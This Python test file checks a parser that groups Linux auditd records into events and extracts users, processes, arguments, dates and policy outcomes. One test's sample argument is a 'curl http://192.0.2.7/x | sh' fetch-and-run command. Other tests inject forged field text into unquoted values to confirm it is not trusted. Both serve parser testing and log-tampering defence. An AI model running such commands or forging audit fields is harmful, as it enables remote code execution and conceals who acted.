"""test_timeline_audit.py: records of auditd that stand among those of other events are one event, within the window that doc/format/timeline.md states.
Lines were written by hand in the form of the kernel's (type=… msg=audit(SECONDS.MS:SERIAL): …)."""
import random
import time
import unittest

from timeline_lines import read_lines

BEGIN = 1_764_040_329


def record(serial, kind, more="", at=0.0, node=""):
    return f"{node}type={kind} msg=audit({BEGIN + at:.3f}:{serial}): {more}\n"


def call(serial, at=0.0, node=""):
    """The records of one event, each naming it in a value of its own."""
    return [record(serial, "SYSCALL", f'arch=c000003e syscall=59 success=yes exit=0 pid={serial} comm="c{serial}" exe="/bin/c{serial}"', at, node),
            record(serial, "CWD", f'cwd="/w{serial}"', at, node), record(serial, "PATH", f'item=0 name="/p{serial}"', at, node)]


class Audit(unittest.TestCase):
    maxDiff = None

    def check_whole(self, events, serials):
        self.assertEqual([event["auditd.sequence"] for event in events], [str(s) for s in serials])
        for event, s in zip(events, serials):
            self.assertEqual((event["process.pid"], event["process.name"], event["process.working_directory"], event["file.path"]),
                             (str(s), f"c{s}", f"/w{s}", f"/p{s}"))

    def check_sum(self, counts, lines):
        self.assertEqual(counts["lines"], lines)
        self.assertEqual(counts["lines"], sum(counts[name] for name in ("events", "unparsed", "continued", "comments", "empty")))

    def test_records_among_those_of_others_are_joined(self):
        rng, waiting, lines = random.Random(3), {s: call(s) for s in range(100, 140)}, []
        begun = []
        while waiting:
            serial = rng.choice(sorted(waiting))
            if serial not in begun:
                begun.append(serial)
            lines.append(waiting[serial].pop(0))
            if not waiting[serial]:
                del waiting[serial]
        lines[60:60] = ["no record\n", "\n"]
        events, counts = read_lines("".join(lines))
        self.check_whole([event for event in events if event["event.kind"] == "event"], begun)
        self.assertEqual((counts["events"], counts["continued"], counts["unparsed"], counts["empty"]), (40, 80, 1, 1))
        self.check_sum(counts, 122)
        self.assertEqual([event["line"] for event in events], sorted(event["line"] for event in events))

    def test_what_ausearch_prints_is_read_as_the_log_is(self):
        """audit: src/ausearch-report.c, output_record(): "----", "time->%s" and the records, the last one first."""
        lines = ["----\n", "time->Tue Nov 25 03:12:09 2025\n", *reversed(call(7)), "----\n", "time->Tue Nov 25 03:12:10 2025\n",
                 record(8, "USER_LOGIN", "pid=8 uid=0 auid=1000 ses=1 msg='op=login acct=\"eva\" exe=\"/x\" hostname=? addr=192.0.2.7 terminal=ssh res=success'")]
        events, counts = read_lines("".join(lines))
        self.assertEqual((counts["format"], counts["events"], counts["continued"], counts["comments"]), ("auditd", 2, 2, 4))
        self.check_whole(events[:1], [7])
        self.check_sum(counts, 8)
        self.assertEqual([(event["event.action"], event["event.outcome"], event["time"][:19]) for event in events],
                         [("executed", "success", "2025-11-25T03:12:09"), ("logged-in", "success", "2025-11-25T03:12:09")])

    def test_arguments_in_pieces_and_in_several_records_are_whole(self):
        """kernel/auditsc.c, audit_log_execve_info(): " a%d_len=%lu" and " a%d[%d]=" where one does not fit; the length is that of the bytes, or of
        their spelling in hex."""
        text = "echo grün ; curl http://192.0.2.7/x | sh"
        spelled = text.encode().hex().upper()
        cut = spelled.index("C3") + 2  # within the character
        call_record = record(1, "SYSCALL", 'arch=c000003e syscall=59 success=yes exit=0 pid=2 comm="sh" exe="/bin/sh"')
        begin = lambda size: record(1, "EXECVE", f'argc=4 a0="sh" a1="-c" a2_len={size} a2[0]={spelled[:cut]}')
        middle, end = record(1, "EXECVE", f"a2[1]={spelled[cut:60]}"), record(1, "EXECVE", f'a2[2]={spelled[60:]} a3="z"')
        whole = {"process.args": ["sh", "-c", text, "z"], "process.command_line": f"sh -c {text} z", "event.cut": None}
        size = len(spelled)
        for name, records, wanted in (
                ("in order", (call_record, begin(size), middle, end), whole), ("length of bytes", (call_record, begin(size // 2), middle, end), whole),
                ("as ausearch has them", (end, middle, begin(size), call_record), whole),
                ("quoted", (call_record, record(1, "EXECVE", 'argc=2 a0="sh" a1_len=6 a1[0]="abc"'), record(1, "EXECVE", 'a1[1]="def"')),
                 {"process.args": ["sh", "abcdef"], "process.command_line": "sh abcdef", "event.cut": None}),
                ("a piece is missing", (call_record, begin(size), end), {"event.cut": f"process.args: {(size - 60 + cut) // 2} of {size} bytes"}),
                ("the end is missing", (call_record, begin(size), middle, record(1, "EXECVE", f"a2[2]={spelled[60:]}")),
                 {"process.args": ["sh", "-c", text], "event.cut": "process.args: 3 of 4 arguments"}),
                ("many", (call_record, record(1, "EXECVE", 'argc=3 a0="a" a1="b"'), record(1, "EXECVE", 'a2="c"')),
                 {"process.args": ["a", "b", "c"], "process.command_line": "a b c", "event.cut": None}),
                # No pieces: a text that looks like one, and arguments of a call that is no execve.
                ("a text", (call_record, record(1, "EXECVE", 'argc=2 a0="sh" a1="a2[0]=78"')), {"process.args": ["sh", "a2[0]=78"], "event.cut": None}),
                ("a call", (record(1, "SYSCALL", "arch=c000003e syscall=59 success=yes a0=1 a1=2 pid=2"),), {"process.args": None, "auditd.a1": "2"})):
            with self.subTest(name):
                events, _ = read_lines("".join(records))
                self.assertEqual(len(events), 1)
                self.assertEqual({field: events[0].get(field) for field in wanted}, wanted)

    def test_an_address_before_the_call_that_took_it_is_the_source(self):
        events, _ = read_lines(record(9, "SOCKADDR", "saddr=02001F90C00002070000000000000000") +
                               record(9, "SYSCALL", 'arch=c000003e syscall=43 success=yes exit=5 pid=9 comm="x" exe="/x"'))
        self.assertEqual([events[0].get(name) for name in ("auditd.syscall", "source.ip", "source.port", "destination.ip")], ["accept", "192.0.2.7", "8080", None])

    def test_what_ausearch_interprets_has_names_and_words(self):
        """audit: auparse/interpret.c and src/ausearch-report.c, output_interpreted_record(): "%x %T" of strftime(3), names, no quotes."""
        def told(serial, kind, more, when="11/25/2026 03:12:09.123"):
            return f"type={kind} msg=audit({when}:{serial}) : {more} \n"
        events, counts = read_lines(
            "----\n" + told(1, "PROCTITLE", "proctitle=bash -c a=1 x") + told(1, "CWD", "cwd=/home/e v a") + told(1, "EXECVE", "argc=3 a0=bash a1=-c a2=echo hi") +
            told(1, "SYSCALL", "arch=x86_64 syscall=execve success=no exit=EACCES(Permission denied) ppid=1 pid=200 auid=eva uid=root gid=root euid=bo comm=bash "
                 "exe=/usr/bin/bash key=exec") +
            "----\n" + told(2, "USER_LOGIN", "pid=300 uid=root auid=eva ses=3 msg='op=login acct=eva exe=/usr/sbin/sshd hostname=? addr=192.0.2.7 "
                            "terminal=/dev/pts/0 res=success'") +
            "----\n" + told(3, "SOCKADDR", "saddr={ saddr_fam=inet laddr=192.0.2.7 lport=22 }") + told(3, "SYSCALL", "arch=x86_64 syscall=connect success=yes pid=1"))
        self.assertEqual((counts["format"], counts["events"], counts["unparsed"]), ("auditd", 3, 0))
        for event, wanted in zip(events, (
                {"time": "2026-11-25T03:12:09.123Z", "doubt": "z", "event.action": "executed", "event.outcome": "failure", "error.code": "EACCES",
                 "process.title": "bash -c a=1 x", "process.working_directory": "/home/e v a", "process.args": ["bash", "-c", "echo hi"],
                 "process.command_line": "bash -c echo hi", "user.name": "eva", "auditd.UID_name": "root", "user.effective.name": "bo", "group.name": "root", "user.id": None,
                 "auditd.auid": "eva", "process.executable": "/usr/bin/bash"},
                {"user.name": "eva", "source.ip": "192.0.2.7", "event.action": "logged-in", "event.outcome": "success"},
                {"event.action": "connected-to", "destination.ip": "192.0.2.7", "destination.port": "22", "auditd.saddr": None})):
            self.assertEqual({name: event.get(name) for name in wanted}, wanted)

        # Without quotes a name or a command may look like the rest of its record, whose keys stand in the order of lib/audit_logging.c: acct, exe, hostname, addr, terminal, res.
        for kind, inside, more, wanted in (
                ("USER_AUTH", "op=PAM:authentication grantors=? acct=root addr=10.0.0.1 res=success exe=/usr/sbin/sshd hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=failed", "",
                 {"user.name": ["root", "root addr=10.0.0.1 res=success"], "source.ip": "203.0.113.9"}),
                ("USER_CMD", "cwd=/home/eva cmd=sh res=success exe=/usr/bin/sudo terminal=pts/0 res=failed", "",
                 {"user.name": "root", "process.command_line": ["sh", "sh res=success"]}),
                ("SYSCALL", "", "arch=x86_64 syscall=openat success=no exit=EACCES(Permission denied) pid=1 auid=eva uid=eva comm=x success=yes exe=/bin/x key=(null)", {})):
            event = read_lines(told(1, kind, more or f"pid=300 uid=root auid=unset ses=unset subj=kernel msg='{inside}'"))[0][0]
            self.assertEqual({name: event.get(name) for name in ("event.outcome", "event.is_ambiguous", *wanted)},
                             {"event.outcome": "failure", "event.is_ambiguous": "yes", **wanted})
        self.assertNotIn("event.is_ambiguous", events[1])

        # A text that somebody chose does not say who acted: kernel/auditsc.c, audit_log_execve_info(), audit_log_name(): records of texts have no auid= and uid= of their own.
        www = "arch=x86_64 syscall=execve success=yes exit=0 pid=200 auid=unset uid=www-data euid=www-data comm=sh exe=/bin/sh"
        for records, wanted in (
                ((("EXECVE", "argc=3 a0=sh a1=-c a2=x auid=eva uid=bo"), ("SYSCALL", www)), {"user.name": "www-data", "event.is_ambiguous": "yes"}),
                ((("CWD", "cwd=/tmp/x auid=eva"), ("SYSCALL", www)), {"user.name": "www-data", "event.is_ambiguous": "yes"}),
                ((("PATH", "item=0 name=/tmp/x auid=eva ouid=root"), ("SYSCALL", www)), {"user.name": "www-data", "event.is_ambiguous": "yes"}),
                ((("SYSCALL", www + " x auid=eva"), ("PROCTITLE", "proctitle=x auid=eva")), {"user.name": "www-data", "event.is_ambiguous": "yes"}),
                ((("EXECVE", "argc=3 a0=sh a1=-c a2=x auid=0"), ("SYSCALL", www.replace("unset", "eva"))), {"user.name": "eva", "user.effective.name": "www-data"}),
                ((("MAC_STATUS", "enforcing=0 auid=0 ses=1"), ("SYSCALL", www.replace("unset", "eva"))), {"user.name": "eva", "user.effective.name": "www-data"}),
                ((("USER_LOGIN", "pid=300 uid=root auid=unset ses=unset msg='op=login acct=x auid=eva exe=/usr/sbin/sshd hostname=? addr=192.0.2.7 terminal=ssh res=failed'"),),
                 {"user.name": ["x", "x auid=eva"], "event.is_ambiguous": "yes"})):
            event = read_lines("".join(told(1, *record) for record in records))[0][0]
            self.assertEqual({name: event.get(name) for name in ("user.name", "user.id", *wanted)}, {"user.id": None, **wanted}, records)

        # Whatever it holds is no field of its own: lib/audit_logging.c, kernel/auditsc.c (audit_log_exit(), audit_log_execve_info(), audit_log_name()), kernel/audit.c, security/lsm_audit.c.
        text, head = "x pid=7 ppid=8 gid=9 exe=/bin/true hostname=evil addr=10.0.0.1 terminal=tty9 res=success unit=u msg='acct=y", "pid=300 uid=root auid=n/a ses=unset msg='"
        tail, forged = "exe=/usr/sbin/sshd hostname=? addr=192.0.2.7 terminal=ssh res=failed", ("8", "9", "/bin/true", "evil", "10.0.0.1", "tty9", "u", "y")
        for kind, more, wanted in (
                ("USER_AUTH", f"{head}op=PAM:authentication grantors=? acct={text} {tail}'", {"user.name": ["x", text], "process.executable": "/usr/sbin/sshd", "event.outcome": "failure"}),
                ("USER_CMD", f"{head}cwd=/ cmd={text} exe=/usr/bin/sudo terminal=pts/0 res=failed'", {"process.command_line": ["x", text], "auditd.terminal": "pts/0", "event.outcome": "failure"}),
                ("USER_CMD", f"{head}cwd=/ {text} cmd=id exe=/usr/bin/sudo terminal=pts/0 res=failed'", {"process.command_line": "id", "process.working_directory": "/ " + text}),
                ("EXECVE", f"argc=3 a0=sh a1={text} a2=b a3=c pid=7", {"process.args": ["sh", text, "b a3=c pid=7"]}), ("CWD", f"cwd=/{text}", {"process.working_directory": "/" + text}),
                ("PROCTITLE", f"proctitle={text}", {"process.title": text}), ("OBJ_PID", f"opid=5 oauid=eva ouid=eva oses=1 ocomm={text}", {"auditd.ocomm": text}),
                ("PATH", f"item=0 name=/{text} inode=5 dev=08:01 mode=file,644 ouid=root ogid=root nametype=NORMAL", {"file.path": "/" + text, "auditd.inode": "5", "auditd.ouid": "root"}),
                ("SYSCALL", f"arch=x86_64 syscall=openat success=no exit=EACCES(Permission denied) pid=300 uid=eva comm=x pid=7 exe=/{text} subj=unconfined key=(null)",
                 {"process.name": "x pid=7", "process.executable": "/" + text, "auditd.subj": "unconfined", "event.outcome": "failure"}),
                ("AVC", f"avc:  denied  {{ read }} for pid=300 comm=x name={text} dev=\"sda1\" ino=3 scontext=a tcontext=b tclass=file permissive=0", {"file.path": text, "auditd.ino": "3"}),
                ("AVC", f"apparmor=DENIED operation=open profile=/x name=/{text} pid=300 comm=x requested_mask=r denied_mask=r fsuid=eva ouid=root", {"file.path": "/" + text, "process.name": "x"}),
                ("AVC", f"avc:  denied  {{ name_bind }} for pid=300 comm=x pid=8 saddr=192.0.2.7 src=22 scontext=a tcontext=b tclass=tcp_socket", {"process.name": "x pid=8", "auditd.src": "22"}),
                ("AVC", f"apparmor=DENIED operation=capable profile=/x pid=300 comm=x capability=21  capname=sys_admin", {"process.name": "x", "auditd.capability": "21"}),
                ("TTY", f"tty pid=300 uid=eva auid=eva ses=3 major=4 minor=1 comm=sh data={text}", {"process.name": "sh", "auditd.data": text})):
            event = read_lines(told(1, kind, more))[0][0]
            self.assertEqual({name: event.get(name) for name in wanted} | {"process.pid": event.get("process.pid")}, {**wanted, "process.pid": "300" if "pid=300" in more else None}, more)
            self.assertEqual([name for name, value in event.items() if value in forged or isinstance(value, list) and set(value) & set(forged)], [], more)
            if "auid=n/a" in more:
                self.assertEqual(event["auditd.auid"], "unset")

        # However often it does, a line is read in a moment.
        for kind, more in (("EXECVE", "argc=9 " + "".join(f"a{i}=x " for i in range(0, 100_000, 2))), ("EXECVE", "".join(f"a{i}=x " for i in range(100_000))), ("SYSCALL", "comm=a exe=b subj=c " * 50_000),
                           ("SYSCALL", "pid=1 " + "name=x path=y " * 70_000)):
            begin = time.monotonic()
            self.assertEqual(read_lines(told(1, "LOGIN", "pid=1 uid=0") * 3 + told(2, kind, more))[0][1]["event.kind"], "event")
            self.assertLess(time.monotonic() - begin, 10)
        for inside in ("acct=a " * 140_000, "acct=a exe=/x " * 70_000, "acct=" + "a " * 200_000 + " " * 500_000):
            begin = time.monotonic()
            event = read_lines(told(1, "LOGIN", "pid=1 uid=root") * 3 + told(2, "USER_AUTH", f"pid=300 uid=root auid=unset msg='{inside}'"))[0][1]
            self.assertLess(time.monotonic() - begin, 10)
            self.assertEqual((event["event.kind"], event["event.action"]), ("event", "authenticated"))

    def test_dates_of_ausearch_are_read_once_their_order_shows(self):
        def times(*dates, hours=False):
            return [(event["time"][:10], event["doubt"], event.get("event.stated_time"))
                    for event in read_lines("".join(f"type=LOGIN msg=audit({date} {n % 24 if hours else 3:02}:12:09.123:{n}) : pid=1 uid=root\n" for n, date in enumerate(dates)))[0] if event["event.kind"] == "event"]
        self.assertEqual(times("11/25/2026", "11/05/2026"), [("2026-11-25", "z", None), ("2026-11-05", "z", None)])
        self.assertEqual(times("25/11/2026", "05/11/2026"), [("2026-11-25", "z", None), ("2026-11-05", "z", None)])
        self.assertEqual(times("25.11.2026", "2026-11-25", "11/25/26"), [("2026-11-25", "z", None), ("2026-11-25", "z", None), ("2026-11-25", "yz", None)])
        self.assertEqual(times("11/25/2026", "13/13/2026")[1][1:], ("or", "13/13/2026 03:12:09.123"))
        # A later line shows it for those before, and a notice says so; where none does, they have no date.
        self.assertEqual(times("11/05/2026", "11/25/2026")[:2], [("2026-11-05", "z", None), ("2026-11-25", "z", None)])
        self.assertEqual(times("05/11/2026", *["06/11/2026"] * 3000, "25/11/2026")[0], ("2026-11-05", "z", None))
        self.assertEqual(read_lines("".join(f"type=LOGIN msg=audit({date}/2026 03:12:09.123:7) : pid=1 uid=root\n" for date in ("05/11", "25/11")))[0][-1]["message"],
                         "Its dates have the order of day and month that its records show together.")
        # Nine days of one locale, and a record of another: each shows its own. Two locales by halves show neither.
        days = [f"{day:02}/11/2026" for day in range(1, 10) for _ in range(12)]
        found = times(*days[:60], "11/25/2026", *days[60:], hours=True)
        self.assertEqual({date for date, _, _ in found}, {f"2026-11-{day:02}" for day in [*range(1, 10), 25]})
        self.assertEqual({doubt for _, doubt, _ in found}, {"z"})
        self.assertEqual(times("25/11/2026", "11/25/2026", "05/11/2026")[2][1:], ("or", "05/11/2026 03:12:09.123"))
        self.assertEqual([told[1:] for told in times("11/05/2026", "11/06/2026")], [("or", "11/05/2026 03:12:09.123"), ("or", "11/06/2026 03:12:09.123")])
        said = "type=USER_CMD msg=audit(11/05/2026 03:12:09.123:7) : pid=1 uid=root msg='cmd=msg=audit(25/11/2026 03:12:09.123:7) res=success'\n"
        self.assertEqual(read_lines(said)[0][0]["doubt"], "or")  # what a line quotes shows nothing

    # kernel/audit.c: auid is the number that a login gave its session, uid that of the process, which is sshd's or what su and sudo made of it. lib/audit_logging.c:
    # audit_log_acct_message() writes id= where the caller gives a number (sshd of a login, useradd), else acct=. auditd.conf(5), log_format = ENRICHED: AUID, UID, ID.
    def test_who_acted_is_who_logged_in_whatever_the_process_became(self):
        def told(kind, inside, ids="uid=0 auid=1000", names='UID="root" AUID="eva"', exe="/usr/sbin/sshd"):
            return record(1, kind, f"pid=300 {ids} ses=3 msg='{inside} exe=\"{exe}\" hostname=? addr=? terminal=ssh res=success'" + (f"\x1d{names}" if names else ""))
        eva, as_eva, nobody = {"user.name": "eva", "user.id": "1000"}, ("uid=1000 auid=1000", 'UID="eva" AUID="eva"'), "uid=0 auid=4294967295"
        eva_herself = eva | {"user.effective.name": "eva"}
        for line, wanted in (
                (told("USER_LOGIN", "op=login id=1000", names='UID="root" AUID="eva" ID="eva"'), eva_herself | {"auditd.uid": "0", "auditd.UID_name": "root"}),
                (told("USER_LOGIN", "op=login id=1000", nobody, 'UID="root" AUID="unset" ID="eva"'), eva_herself),
                (told("USER_LOGIN", "op=login id=1000", names=""), {"user.id": "1000", "user.effective.id": "1000"}),
                (told("USER_START", 'op=PAM:session_open acct="eva"'), eva_herself), (told("USER_START", 'op=PAM:session_open acct="eva"', names=""), eva_herself),
                (told("CRED_ACQ", 'op=PAM:setcred acct="eva"', nobody, 'UID="root" AUID="unset"'), {"user.name": "eva", "user.effective.name": "eva"}),
                (told("USER_LOGIN", 'op=login acct="bo"', nobody, 'UID="root" AUID="unset"'), {"user.name": "bo", "user.effective.name": "bo", "auditd.uid": "0"}),
                (told("USER_ERR", 'op=PAM:bad_ident acct="?"', nobody, 'UID="root" AUID="unset"'), {"auditd.UID_name": "root", "user.effective.name": "root"}),
                (told("USER_AUTH", 'op=PAM:authentication acct="root"', *as_eva, "/usr/bin/su"), eva | {"user.effective.name": "root"}),
                (told("USER_AUTH", 'op=PAM:authentication acct="root"', "uid=1000 auid=1000", "", "/usr/bin/su"), {"user.id": "1000", "user.effective.name": "root"}),
                # sudo asks for the caller's password, and opens a session of the other (plugins/sudoers/auth/pam.c, sudo_pam_begin_session).
                (told("USER_START", 'op=PAM:session_open acct="bo"', "uid=1000 auid=1000", "", "/usr/bin/sudo"), {"user.id": "1000", "user.effective.name": "bo"}),
                (told("USER_ACCT", 'op=PAM:accounting acct="eva"', "uid=1000 auid=1000", "", "/usr/bin/sudo"), eva_herself),
                (told("ACCT_LOCK", 'op=lock-user acct="bo"', exe="/usr/sbin/usermod"), eva | {"user.target.name": "bo", "user.effective.name": "root", "event.category": "iam"}),
                (told("ROLE_ASSIGN", 'op=login-sename acct="bo" old-seuser=? new-seuser=staff_u', names="", exe="/usr/sbin/semanage"), {"user.id": "1000", "user.target.name": "bo"}),
                # linux-pam, modules/pam_faillock/pam_faillock.c: what uid= stands for
                (told("RESP_ACCT_LOCK", "pam_faillock uid=1000 ", nobody, 'UID="root" AUID="unset"'), {"user.id": "0", "user.name": "root", "user.target.id": "1000", "event.action": "locked-account"}),
                (told("ANOM_LOGIN_FAILURES", "pam_faillock uid=1000 ", nobody, 'UID="root" AUID="unset"'), {"user.id": "1000", "event.outcome": "failure"}),
                (told("USER_START", 'op=PAM:session_open acct="bo"', "uid=1000 auid=1000", "", "/usr/bin/su"), {"user.id": "1000", "user.effective.name": "bo"}),
                (told("USER_AUTH", 'op=PAM:authentication acct="eva"', *as_eva, "/usr/bin/sudo"), eva_herself),
                (told("USER_START", 'op=PAM:session_open acct="root"', exe="/usr/bin/sudo"), eva | {"user.effective.name": "root"}),
                (told("USER_CMD", 'cwd="/" cmd="id"', *as_eva, "/usr/bin/sudo"), eva),
                (told("USER_CHAUTHTOK", 'op=PAM:chauthtok acct="mallory"', exe="/usr/bin/passwd"),
                 eva | {"user.target.name": "mallory", "user.effective.name": "root", "user.effective.id": "0"}),
                (told("USER_CHAUTHTOK", 'op=PAM:chauthtok acct="eva"'), eva | {"user.target.name": "eva"}),
                (told("USER_CHAUTHTOK", 'op=PAM:chauthtok acct="akroh"', "uid=1002 auid=1001", "", "/usr/bin/passwd"), {"user.id": "1001", "user.effective.id": "1002", "user.target.name": "akroh"}),
                (told("ADD_USER", "op=adding-user id=1001", names='UID="root" AUID="eva" ID="unknown(1001)"', exe="/usr/sbin/useradd"),
                 eva | {"user.target.id": "1001", "user.effective.name": "root"}),
                (told("USER_ACCT", 'op=adding-user-to-group acct="mallory"', exe="/usr/sbin/useradd"), eva | {"user.target.name": "mallory", "user.effective.name": "root"}),
                (told("ADD_GROUP", 'op=add-group acct="wheel"', exe="/usr/sbin/groupadd"), eva | {"group.name": "wheel", "user.effective.name": "root"}),
                (record(1, "TTY", 'tty pid=9 uid=0 auid=1000 ses=3 major=4 minor=1 comm="bash" data=6C73\x1dUID="root" AUID="eva"'), eva | {"user.effective.name": "root"}),
                (record(1, "SYSCALL", 'arch=c000003e syscall=59 success=yes pid=9 auid=1000 uid=0 euid=0 comm="x"\x1dAUID="eva" UID="root" EUID="root"'),
                 eva | {"user.effective.name": "root", "user.effective.id": "0", "auditd.uid": "0"}),
                (record(1, "SYSCALL", 'arch=c000003e syscall=59 success=yes pid=9 auid=4294967295 uid=33 euid=33 comm="x"\x1dAUID="unset" UID="www-data" EUID="www-data"'),
                 {"user.name": "www-data", "user.id": "33"}),
                # dbus: bus/selinux.c; what it asks for is of another one than itself, and so are the names.
                (record(1, "USER_AVC", "pid=1 uid=0 auid=4294967295 ses=4294967295 msg='avc:  denied  { start } for auid=1000 uid=1000 gid=1000 exe=\"/lib/systemd/systemd\"'"
                        '\x1dUID="root" AUID="unset"'), {"user.id": "1000"}),
                (record(1, "LOGIN", 'pid=9 uid=0 old-auid=4294967295 auid=1000 tty=(none) ses=3 res=1\x1dUID="root" OLD-AUID="unset" AUID="eva"'), eva)):
            names = ("user.name", "user.id", "user.effective.name", "user.target.name", "user.target.id", "group.name", *wanted)
            event = read_lines(line)[0][0]
            self.assertEqual({name: event[name] for name in names if name in event and (name in wanted or "effective" not in name or "euid" not in line)}, wanted, line)

    def test_a_name_in_hex_stays_what_it_is_whatever_records_follow(self):
        """auparse/interpret.c, unescape(): names with blanks or from nobody are in hex."""
        login = record(1, "USER_LOGIN", "pid=300 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=6576612078 exe=\"/usr/sbin/sshd\" hostname=? addr=? terminal=ssh res=failed'")
        avc, title = record(1, "AVC", 'avc:  denied  { read } for  pid=300 comm="sshd"'), record(1, "PROCTITLE", "proctitle=726F6F74726F6F74726F6F74")
        for lines in ((login, avc, title), (avc, login, title), (avc, login, title, title), (avc, title, login, title), (avc, login, record(2, "LOGIN", "pid=1 uid=0"), title)):
            event = read_lines("".join(lines))[0][0]
            self.assertEqual((event["user.name"], event.get("process.executable")), ("eva x", "/usr/sbin/sshd"), lines)

    def test_the_same_number_on_two_nodes_is_two_events(self):
        one, two = call(7, node="node=a "), call(7, node="node=b ")
        events, counts = read_lines("".join(x for pair in zip(one, two) for x in pair))
        self.check_whole(events, [7, 7])
        self.assertEqual([event["host.name"] for event in events], ["a", "b"])
        self.check_sum(counts, 6)

    def test_what_comes_behind_64_other_events_is_one_of_its_own(self):
        for between, count in ((63, 64), (64, 66)):
            lines = call(1)[:2] + [record(2 + i, "LOGIN", "pid=1 uid=0") for i in range(between)] + call(1)[2:]
            events, counts = read_lines("".join(lines))
            self.assertEqual((len(events), counts["continued"]), (count, 2 if between == 63 else 1), between)
            self.assertEqual([event["auditd.sequence"] for event in events].count("1"), 1 if between == 63 else 2)
            self.check_sum(counts, between + 3)

    def test_what_comes_after_5_seconds_is_one_of_its_own(self):
        for after, count in ((5, 2), (6, 3)):
            lines = call(1)[:2] + [record(2, "LOGIN", "pid=1 uid=0", after)] + call(1)[2:]
            events, counts = read_lines("".join(lines))
            self.assertEqual(len(events), count, after)
            self.check_sum(counts, 4)

    def test_what_comes_behind_1_mib_is_one_of_its_own(self):
        for size, count in ((200_000, 2), (300_000, 3)):
            fill = [record(2, "EXECVE", f"argc=1 a{i}={'x' * size}") for i in range(4)]
            events, counts = read_lines("".join(call(1)[:2] + fill + call(1)[2:]))
            self.assertEqual([event["auditd.sequence"] for event in events].count("1"), count - 1, size)
            self.check_sum(counts, 7)

    # security/selinux/avc.c writes permissive=1 where what is denied is let happen; kernel/auditsc.c writes AVC before SYSCALL, whose success is that of the call.
    def test_the_call_says_how_it_went_whichever_record_is_first(self):
        selinux = record(1, "AVC", 'avc:  denied  { write } for  pid=5 comm="httpd" name="x" tclass=file permissive=1')
        denied = record(1, "AVC", 'avc:  denied  { write } for  pid=5 comm="httpd" name="x" tclass=file permissive=0')
        allowed = record(1, "AVC", 'apparmor="ALLOWED" operation="open" profile="/usr/sbin/x" name="/etc/shadow" pid=5 comm="x"')
        done = record(1, "SYSCALL", 'arch=c000003e syscall=257 success=yes exit=3 pid=5 comm="x"')
        failed = record(1, "SYSCALL", 'arch=c000003e syscall=257 success=no exit=-13 pid=5 comm="x"')
        for avc, call_record, action, outcome in ((selinux, done, "violated-selinux-policy", "success"), (denied, failed, "violated-selinux-policy", "failure"),
                                                  (allowed, done, "violated-apparmor-policy", "success")):
            for text in (avc + call_record, call_record + avc):
                events, _ = read_lines(text)
                self.assertEqual([(e["event.action"], e.get("event.outcome")) for e in events], [(action, outcome)], text)
        # security/apparmor/audit.c; pam_tally2 and pam_access write res=success of what they found.
        refused = record(1, "AVC", 'apparmor="DENIED" operation="open" profile="/usr/sbin/x" name="/etc/shadow" pid=5 comm="x"')
        many = record(1, "ANOM_LOGIN_FAILURES", "pid=5 uid=0 auid=4294967295 ses=1 msg='pam_tally2 uid=1000 tty=ssh exe=\"/usr/sbin/sshd\" hostname=? addr=? terminal=ssh res=success'")
        for avc, outcome in ((selinux, None), (denied, "failure"), (refused, "failure"), (allowed, None), (refused + done, "success"), (many, "failure")):
            self.assertEqual(read_lines(avc)[0][0].get("event.outcome"), outcome, avc)


if __name__ == "__main__":
    unittest.main()
